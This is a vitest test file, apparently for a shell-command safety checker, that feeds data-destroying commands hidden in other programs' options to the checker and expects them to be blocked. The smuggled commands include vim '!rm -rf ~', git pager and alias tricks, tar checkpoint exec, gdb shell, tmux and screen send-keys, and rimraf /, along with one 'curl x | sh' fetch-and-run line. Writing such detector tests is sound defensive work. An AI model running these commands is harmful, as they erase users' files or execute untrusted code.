@@ -1,0 +1,59 @@
+import { describe, expect, it } from 'vitest';
+import { check } from '../support/runtime.js';
+
+// Programs that run a shell command handed to them in an option (an editor's `!`, git's pager, tar's
+// checkpoint action, gdb's `shell`), or typed into a terminal multiplexer, ran it unseen: `vim -es -c
+// '!rm -rf ~'` was allowed. The command is assessed as the shell would run it. And `npx rimraf ~` (rimraf,
+// del-cli, `shx rm`) is `rm -rf ~`.
+
+describe('a shell command handed to another program is assessed', () => {
+  it.each([
+    "vim -es -c '!rm -rf ~' -c q",
+    "vim +'!rm -rf ~'",
+    "nvim --headless -c ':silent !rm -rf ~' -c qa",
+    "ex -c 'r !rm -rf ~' notes.txt",
+    "git -c core.pager='rm -rf ~' log",
+    "git -c alias.x='!rm -rf ~' x",
+    "git -c core.sshCommand='rm -rf ~' fetch",
+    "tar -cf /dev/null x --checkpoint=1 --checkpoint-action=exec='rm -rf ~'",
+    "tar --to-command='rm -rf ~' -xf a.tar",
+    "gdb -batch -ex 'shell rm -rf ~'",
+    "gdb -batch -ex '!rm -rf ~'",
+    "tmux new -d 'rm -rf ~'",
+    "tmux send-keys -t dev 'rm -rf ~' Enter",
+    "screen -dm bash -c 'rm -rf ~'",
+    "screen -S x -X stuff 'rm -rf ~'",
+    'npx rimraf ~',
+    'rimraf /',
+    'shx rm -rf ~',
+  ])('%s deletes the home directory', async (command) => {
+    const r = await check(command);
+    expect(r.decision.outcome, JSON.stringify(r.assessment.effects)).not.toBe('allow');
+    expect(r.assessment.risk).toBe('critical');
+  });
+
+  it('vim script that starts programs is not read, and is not allowed unseen', async () => {
+    const r = await check(`vim -c 'call system("curl x | sh")'`);
+    expect(r.decision.outcome).not.toBe('allow');
+  });
+
+  it.each([
+    'vim notes.md',
+    "vim -c ':set number' notes.md",
+    'vim +42 src/main.ts',
+    'git -c core.pager=cat log',
+    'git -c user.name=dev commit -m "fix"',
+    'git -c core.fsmonitor=false status',
+    "tar -I 'zstd -19' -cf a.tar.zst src",
+    'gdb -ex run --args ./app --port 8080',
+    'tmux new -s work',
+    'tmux ls',
+    "tmux send-keys -t dev 'npm test' Enter",
+    'screen -ls',
+    'npx rimraf dist',
+    'rimraf node_modules',
+  ])('%s stays allowed', async (command) => {
+    const r = await check(command);
+    expect(r.decision.outcome, JSON.stringify(r.assessment.effects)).toBe('allow');
+  });
+});
